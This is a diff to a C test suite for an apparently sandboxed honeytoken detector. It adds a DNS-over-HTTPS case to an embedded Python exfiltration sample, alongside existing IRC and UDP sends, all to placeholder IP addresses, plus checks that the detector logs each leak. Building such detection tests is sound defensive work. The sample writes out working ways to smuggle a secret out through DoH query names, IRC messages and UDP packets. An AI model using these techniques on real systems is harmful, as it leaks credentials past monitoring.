@@ -263,6 +263,13 @@ static const char exfil_script[] =
     "    irc.sendall(b'JOIN #c\\r\\nPRIVMSG #c :k=' + tok.encode() + b'\\r\\nQUIT\\r\\n')\n"
     "print('IRC', b' 001 bot7 ' in got)\n"
     "irc.close()\n"
+    "hx = tok.encode().hex()\n"
+    "d = socket.create_connection(('198.51.100.26', 80), timeout=10)\n"
+    "d.sendall(('GET /resolve?name=%s.%s.doh.example.test&type=TXT HTTP/1.1'\n"
+    "           '\\r\\nHost: dns.google\\r\\n\\r\\n' % (hx[:40], hx[40:])).encode())\n"
+    "r = readall(d)\n"
+    "print('DOH', b'application/dns-json' in r and b'\"Status\":0' in r)\n"
+    "d.close()\n"
     "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
     "u.sendto(b'UDP:' + tok.encode().hex().encode(), ('203.0.113.5', 9999))\n"
     "u.close()\n"
@@ -648,6 +655,10 @@ static int scenario_exfil(pt_tok_scanner *tokens, const char *tok) {
                        "base64/base64", "where", "tcp:198.51.100.24:4445")) != NULL,
         "a JSON base64'd twice: decoded and scanned again");
 
+  char hx[65], qname[128];
+  for (size_t i = 0; i < 32; i++)
+    snprintf(hx + 2 * i, 3, "%02x", (unsigned char)tok[i]);
+
   /* An IRC bot that waits for the server's welcome before it talks. */
   CHECK(strstr(out, "IRC True\n") != NULL,
         "an IRC client's registration is answered with the welcome");
@@ -655,6 +666,20 @@ static int scenario_exfil(pt_tok_scanner *tokens, const char *tok) {
              json_pack("{s:s,s:s,s:s}", "token", "test_token", "encoding",
                        "raw", "where", "tcp:198.51.100.25:6667")) != NULL,
         "the token its PRIVMSG sent after the welcome");
+
+  /* DNS over HTTPS's JSON API: the fake resolver's answer, a dns event
+   * (proto doh) and the token hex-encoded in its labels. */
+  CHECK(strstr(out, "DOH True\n") != NULL,
+        "a DoH JSON request is answered as Google's resolver would");
+  snprintf(qname, sizeof(qname), "%.40s.%s.doh.example.test", hx, hx + 40);
+  CHECK(find(events, "dns",
+             json_pack("{s:s,s:s,s:s}", "name", qname, "qtype", "TXT",
+                       "proto", "doh")) != NULL,
+        "the DoH query is a dns event (proto doh)");
+  json_t *htok = find(events, "honeytoken",
+                      json_pack("{s:s,s:s,s:s}", "token", "test_token",
+                                "where", "dns", "name", qname));
+  CHECK(htok != NULL, "the token in the DoH query's name");
 
   /* 4. A UDP datagram. */
   json_t *udp = find(events, "net",
@@ -695,9 +720,6 @@ static int scenario_exfil(pt_tok_scanner *tokens, const char *tok) {
         "the sample got a harmless shell script, padded to 4 KiB");
 
   /* 7. DNS over TCP with the token hex-encoded across labels. */
-  char hx[65], qname[128];
-  for (size_t i = 0; i < 32; i++)
-    snprintf(hx + 2 * i, 3, "%02x", (unsigned char)tok[i]);
   snprintf(qname, sizeof(qname), "%.40s.%s.d.example.test", hx, hx + 40);
   json_t *tcpdns = find(events, "dns",
                         json_pack("{s:s,s:s,s:s,s:n,s:s}", "name", qname,
@@ -750,7 +772,7 @@ static int scenario_exfil(pt_tok_scanner *tokens, const char *tok) {
     if (strcmp(str(e, "kind"), "net") == 0)
       nnet++;
   }
-  CHECK(nnet == 8, "exactly 8 net events (got %zu)", nnet);
+  CHECK(nnet == 9, "exactly 9 net events (got %zu)", nnet);
 
 
   /* 10. The next phase: the same fake network in a new jail. */
